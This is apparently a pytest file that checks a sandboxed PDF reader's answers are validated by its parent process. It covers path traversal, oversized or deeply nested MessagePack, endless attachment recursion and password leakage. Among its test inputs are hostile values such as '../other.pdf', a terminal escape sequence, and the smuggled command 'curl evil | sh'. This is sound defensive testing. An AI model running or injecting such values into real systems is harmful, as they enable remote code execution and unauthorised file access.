"""A reader that was taken over can lie about its own document, and about nothing else."""

from __future__ import annotations

import random
import threading
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor, wait
from dataclasses import dataclass, replace
from typing import Any, cast

import msgspec
import pytest

from ingest.errors import MAX_REASON_CHARS, DocumentError
from ingest.extract.attachments import MAX_ATTACHMENT_DEPTH
from ingest.extract.document import ignore_progress
from ingest.extract.figures.document import MAX_DESCRIBED_FIGURES, MAX_READ_FIGURES
from ingest.extract.figures.picture import PNG_START
from ingest.extract.sandbox.answers import (
    ERROR,
    READER_CODES,
    VALUE,
    Failure,
    InvalidAnswerError,
    build_decoder,
    encode_answer,
)
from ingest.models import Code, Figure, PreparedDocument, Recipe, Source
from ingest.pipeline.reader.answer import DocumentAnswer, FigureAnswer, accept_document, copy_fields
from ingest.pipeline.reader.attachments import prepare_with_attachments
from ingest.pipeline.reader.page_images import MAX_PICTURE_BYTES, RenderTask, accept_pages
from ingest.pipeline.reader.prepare import Task, read_document
from tests.conftest import ROOT

RECIPE = Recipe("auto", 64, 0.12, "hash", 8)
TASK = Task(Source("/docs", "mine.pdf", "/docs/mine.pdf", 1, "1"), "", RECIPE, "auto")
SEEDS = range(200)
# What an attacker puts where something else belongs.
WRONG: tuple[Any, ...] = (
    *(None, True, -1, 0, 1, 1 << 40, float("nan"), float("inf"), b"\xff", "", "a\x1b[2Jb", "a/b"),
    *("../other.pdf", "x" * 5000, [], ["a"] * 50, [-1], [1, 1], {}, {"id": "stolen"}, [[[]]]),
)
decode = build_decoder(DocumentAnswer | None)


@pytest.fixture(scope="module")
def honest() -> dict[str, Any]:
    """The answer to a sample, as its reader encodes it."""
    with (ROOT / "data/benefits/benefits-plan.pdf").open("rb") as file:
        answer = encode_answer(read_document(TASK, file, ignore_progress))
    found: dict[str, Any] = msgspec.msgpack.decode(answer[1:])
    return found


def places(value: Any) -> Iterator[tuple[Any, Any]]:
    """Every place in an answer, as a container and a key."""
    for key in value if isinstance(value, dict) else range(len(value)):
        yield value, key
        if isinstance(value[key], dict | list):
            yield from places(value[key])


def judge(answer: object, task: Task = TASK) -> PreparedDocument | None:
    """Decision of the parent about an answer."""
    return accept_document(task, decode(VALUE + msgspec.msgpack.encode(answer)))


def test_an_honest_answer_is_taken_as_it_is(honest: dict[str, Any]) -> None:
    """What is checked is no obstacle to what a sample says."""
    made = judge(honest)
    assert made
    assert [chunk.text for chunk in made.chunks] == [chunk["text"] for chunk in honest["chunks"]]
    assert all(0 < chunk.tokens <= RECIPE.chunk_tokens for chunk in made.chunks)
    assert {"id", "tokens", "ordinal", "page_start"}.isdisjoint(honest["chunks"][0])


def test_whatever_is_answered_is_about_its_own_document(honest: dict[str, Any]) -> None:
    """No answer names another document, has a token too few, or ends the run: 200 are tried."""
    outcomes = {"refused": 0, "taken": 0}
    for seed in SEEDS:
        chance = random.Random(seed)
        answer = msgspec.msgpack.decode(msgspec.msgpack.encode(honest))
        container, key = chance.choice(list(places(answer)))
        alike = [value for value in WRONG if type(value) is type(container[key])]
        container[key] = chance.choice(alike if seed % 4 else WRONG)
        raw = VALUE + msgspec.msgpack.encode(answer)
        if seed % 10 == 0:  # what is not even MessagePack
            cut = chance.randrange(len(raw))
            raw = raw[:cut] + chance.randbytes(4) + raw[cut + chance.choice((0, 4, 9)) :]
        try:
            made = accept_document(TASK, decode(raw))
        except InvalidAnswerError:
            outcomes["refused"] += 1
            continue
        outcomes["taken"] += 1
        assert made
        check_prepared(made)
    assert min(outcomes.values()) > 20, outcomes  # the seeds are always the same


def check_prepared(made: PreparedDocument) -> None:
    """That a document has nothing that only another one may have."""
    again = expected_ids(made)
    assert [chunk.id for chunk in made.chunks] == again
    assert made.attached == ()
    assert made.fingerprint.startswith(RECIPE.digest)
    assert not any("/" in name for name in made.details.attachments)
    for ordinal, chunk in enumerate(made.chunks):
        assert (chunk.ordinal, chunk.tokens > 0) == (ordinal, True)
        assert 1 <= chunk.page_start <= chunk.main_page <= chunk.page_end <= made.pages
        for text in (made.title, chunk.text, chunk.plain, *chunk.labels, *chunk.headings):
            text.encode()
            assert "\x1b" not in text


def expected_ids(made: PreparedDocument) -> list[str]:
    """The ids of chunks, as they follow from texts and the source's name."""
    from ingest.chunk.chunks import chunk_id_factory

    identify = chunk_id_factory(TASK.source, RECIPE)
    return [identify(f"{c.text}\0{c.plain}" if c.plain else c.text) for c in made.chunks]


def test_chunks_do_not_repeat_a_text_of_many_pages(honest: dict[str, Any]) -> None:
    """A small answer does not become gigabytes: the pages of each chunk are listed."""
    pages = 100_000
    first = honest["chunks"][0] | {"text": "a" * pages, "plain": "", "start": 0, "end": pages}
    first |= {"sentence_offsets": [0], "section_offsets": [], "sections": []}
    whole = honest | {"page_chars": [0] * pages, "chunks": [first] * 20}
    whole["details"] = empty_pages(honest["details"])
    task = replace(TASK, recipe=replace(RECIPE, chunk_tokens=512))
    whole["fingerprint"] = task.recipe.digest + "0" * (64 - len(task.recipe.digest))
    with pytest.raises(InvalidAnswerError, match="repeat their text too often"):
        judge(whole, task)
    made = judge(whole | {"chunks": [first] * 8}, task)
    assert made
    assert len(made.chunks[0].page_offsets) == pages


def empty_pages(details: dict[str, Any]) -> dict[str, Any]:
    """Details that name no page."""
    return {name: [] if isinstance(value, list) else value for name, value in details.items()}


def test_figures_are_those_that_were_asked_for(honest: dict[str, Any]) -> None:
    """A reader that was taken over does not have ten thousand pictures paid for."""
    figure = Figure(1, (0.0, 0.0, 1.0, 1.0))
    listed = [msgspec.to_builtins(copy_fields(FigureAnswer, figure, FigureAnswer))]
    for task, most in (
        (TASK, 0),
        (replace(TASK, figure_ocr="ocr"), MAX_READ_FIGURES),
        (replace(TASK, lists_figures=True), MAX_DESCRIBED_FIGURES),
    ):
        made = judge(honest | {"figures": listed * most}, task)
        assert made
        assert len(made.figures) == most
        with pytest.raises(InvalidAnswerError, match="more figures than were asked for"):
            judge(honest | {"figures": listed * (most + 1)}, task)


def test_an_unchanged_document_is_one_that_was_asked_about() -> None:
    """Nothing is called unchanged that the index does not have."""
    with pytest.raises(InvalidAnswerError, match="not the question"):
        judge(None)
    assert judge(None, replace(TASK, known_fingerprint="0" * 64)) is None


def test_pdfs_inside_do_not_go_down_for_ever(honest: dict[str, Any]) -> None:
    """A reader that finds a PDF inside every PDF is stopped by its parent."""
    honest = honest | {"details": honest["details"] | {"attachments": ["again.pdf"]}}
    asked: list[Task] = []

    def prepare(task: Task, _: object) -> PreparedDocument | None:
        asked.append(task)
        try:
            return judge(honest, task)
        except InvalidAnswerError as error:
            raise DocumentError(str(error)) from None

    made = prepare_with_attachments(TASK, cast("Any", None), prepare)
    assert made
    assert len(asked) == 1 + MAX_ATTACHMENT_DEPTH
    assert {task.source.name.split("//")[0] for task in asked} == {"mine.pdf"}
    assert isinstance(made.attached[-1].result, DocumentError)


def test_only_what_is_locked_gets_the_passwords() -> None:
    """A document without a lock never has the passwords of others in its reader."""
    asked: list[tuple[str, tuple[str, ...]]] = []

    def prepare(task: Task, _: object) -> PreparedDocument | None:
        asked.append((task.source.name, task.passwords))
        if task.source.name == "locked.pdf" and not task.passwords:
            raise DocumentError("needs a password", Code.ENCRYPTED)
        return PreparedDocument("f", 1, 0, "", ())

    for name in ("mine.pdf", "locked.pdf"):
        task = replace(TASK, source=replace(TASK.source, name=name))
        assert prepare_with_attachments(task, cast("Any", None), prepare, ("secret",))
    assert asked == [("mine.pdf", ()), ("locked.pdf", ()), ("locked.pdf", ("secret",))]


@pytest.mark.parametrize("code", [*Code, "curl evil | sh"])
def test_an_error_has_a_code_of_a_reader_and_a_short_reason(code: str) -> None:
    """A reader does not speak with the product's voice: no setting is wrong because it says so."""
    answer = {"code": code, "reason": "r" * MAX_REASON_CHARS}
    if code in READER_CODES:
        found = decode(ERROR + msgspec.msgpack.encode(answer))
        assert found == Failure(Code(code), answer["reason"])
        answer["reason"] += "r"
    with pytest.raises(InvalidAnswerError):
        decode(ERROR + msgspec.msgpack.encode(answer))


@pytest.mark.parametrize(
    "message",
    [
        *(b"", b"v", b"x\x80", b"v\xdd\xff\xff\xff\xff", b"v\xc6\xff\xff\xff\xff"),
        *(b"v" + b"\x91" * 100_000, b"v" + b"\x81\xa1z" + b"\x91" * 100_000),
        b"v\x81\xa5title\xa3\xed\xa0\x80",
    ],
)
def test_no_message_costs_memory_or_the_run(message: bytes) -> None:
    """Answers with false counts, deep nesting or broken characters are refused at once."""
    with pytest.raises(InvalidAnswerError):
        decode(message)


Answer = dict[int, str] | bytes


@pytest.mark.parametrize(
    ("draw", "answer"),
    [
        (False, {7: "0" * 64}),
        (False, {1: "x"}),
        (False, b"\x89PNG\r\n\x1a\n"),
        (True, b"GIF"),
        (True, {}),
    ],
)
def test_pages_are_those_that_were_asked_for(draw: bool, answer: Answer) -> None:
    """A service is sent pictures of the pages that I have, and nothing else."""
    with pytest.raises(InvalidAnswerError):
        accept_pages(RenderTask((1, 2), draw=draw), answer)


def test_a_picture_is_no_larger_than_any_that_is_drawn() -> None:
    """A picture larger than any that a renderer makes is refused."""
    picture = PNG_START + bytes(MAX_PICTURE_BYTES - len(PNG_START))
    task = RenderTask((1,), draw=True)
    assert accept_pages(task, picture) is picture
    with pytest.raises(InvalidAnswerError, match="larger than any that is drawn"):
        accept_pages(task, picture + b"?")


LISTING, GO_ON = threading.Event(), threading.Event()


def list_slowly() -> type[int]:
    """Return the type of a field once the test says so."""
    LISTING.set()
    assert GO_ON.wait(60)
    return int


@dataclass(frozen=True)
class Inner:
    """A value in an answer, with a field whose type takes a while to find."""

    number: list_slowly()  # type: ignore[valid-type]


@dataclass(frozen=True)
class Outer:
    """An answer."""

    name: str
    inner: Inner


def test_readers_that_start_at_the_same_time_do_not_end_the_run() -> None:
    """Two of them list the fields of an answer: neither decodes with a list that has holes."""
    message = VALUE + msgspec.msgpack.encode({"name": "a", "inner": {"number": 1}})
    with ThreadPoolExecutor(2) as threads:
        first = threads.submit(build_decoder, Outer)
        assert LISTING.wait(60)
        second = threads.submit(build_decoder, Outer)
        assert not wait([second], timeout=0.05).done
        GO_ON.set()
        assert [made.result()(message) for made in (first, second)] == [Outer("a", Inner(1))] * 2
